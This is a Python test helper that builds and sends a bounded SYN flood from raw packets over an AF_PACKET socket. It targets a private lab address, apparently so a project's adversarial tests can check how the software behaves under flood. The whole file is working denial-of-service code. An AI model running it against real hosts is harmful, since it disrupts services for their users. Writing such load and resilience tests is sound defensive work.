#!/usr/bin/env python3
"""A bounded SYN flood (RFC 4987 §2) for tests/adversarial.rs.

Runs inside ob-NAME-lnx as root. Builds `--distinct` SYN frames up front
(random source ports and ISNs from one source address, checksums computed
here) and writes them, round after round, to an AF_PACKET socket on
`--iface` as fast as Python can (or paced to `--pps`), stopping after `--count` frames or
`--seconds`, whichever comes first. Standard library only (scapy is far
too slow for this). Prints {"flooding": true} when it starts sending, then
{"sent", "seconds", "pps"} when done.
"""

import argparse
import ipaddress
import json
import random
import socket
import struct
import sys
import time


def csum_fold(s):
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return s


def ones_sum(data):
    if len(data) % 2:
        data += b"\0"
    return sum(struct.unpack(f"!{len(data) // 2}H", data))


def mac_bytes(m):
    return bytes(int(x, 16) for x in m.split(":"))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--iface", default="lnx0")
    ap.add_argument("--src", default="10.77.0.1")
    ap.add_argument("--dst", default="10.77.0.2")
    ap.add_argument("--dst-mac", required=True)
    ap.add_argument("--dport", type=int, default=7)
    ap.add_argument("--sport-lo", type=int, default=1024)
    ap.add_argument("--sport-hi", type=int, default=32767)
    ap.add_argument("--distinct", type=int, default=100_000)
    ap.add_argument("--count", type=int, default=400_000)
    ap.add_argument("--seconds", type=float, default=4.0)
    ap.add_argument("--seed", type=int, default=4987)
    ap.add_argument("--pps", type=int, default=0, help="pace to this many frames a second (0: as fast as possible)")
    a = ap.parse_args()

    with open(f"/sys/class/net/{a.iface}/address") as f:
        src_mac = mac_bytes(f.read().strip())
    dst_mac = mac_bytes(a.dst_mac)
    src = ipaddress.IPv4Address(a.src).packed
    dst = ipaddress.IPv4Address(a.dst).packed
    rng = random.Random(a.seed)

    # IPv4 header (DF, TTL 64, TCP), 20 + 24 bytes of TCP (MSS option): constant checksum.
    tcp_len = 24
    ip_wo = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + tcp_len, 0, 0x4000, 64, 6, 0, src, dst)
    ip_hdr = ip_wo[:10] + struct.pack("!H", 0xFFFF - csum_fold(ones_sum(ip_wo))) + ip_wo[12:]
    eth = dst_mac + src_mac + b"\x08\x00"
    # TCP: sport, dport, seq, ack 0, offset 6 words, SYN, window, csum, urg 0, MSS 1460.
    pseudo = src + dst + struct.pack("!BBH", 0, 6, tcp_len)
    fixed = struct.pack("!HHIIBBHHH", 0, a.dport, 0, 0, 6 << 4, 0x02, 64240, 0, 0) + b"\x02\x04\x05\xb4"
    base = ones_sum(pseudo) + ones_sum(fixed)
    frames = []
    for _ in range(a.distinct):
        sport = rng.randint(a.sport_lo, a.sport_hi)
        seq = rng.getrandbits(32)
        c = 0xFFFF - csum_fold(base + sport + (seq >> 16) + (seq & 0xFFFF))
        tcp = struct.pack("!HHIIBBHHH", sport, a.dport, seq, 0, 6 << 4, 0x02, 64240, c, 0) + b"\x02\x04\x05\xb4"
        frames.append(eth + ip_hdr + tcp)

    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.iface, 0))
    sent = 0
    print(json.dumps({"flooding": True}), flush=True)
    t0 = time.monotonic()
    deadline = t0 + a.seconds
    send = s.send
    done = False
    while not done:
        for i, fr in enumerate(frames):
            if i & 63 == 0:
                now = time.monotonic()
                if sent >= a.count or now > deadline:
                    done = True
                    break
                if a.pps > 0:
                    # Paced: never ahead of the schedule (a burst of at most 64).
                    ahead = t0 + sent / a.pps - now
                    if ahead > 0:
                        time.sleep(ahead)
            elif sent >= a.count:
                done = True
                break
            try:
                send(fr)
            except OSError:
                # Queue full on the veth: skip it (the flood is best effort).
                continue
            sent += 1
    dt = time.monotonic() - t0
    print(json.dumps({"sent": sent, "seconds": round(dt, 3), "pps": int(sent / dt) if dt > 0 else 0}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
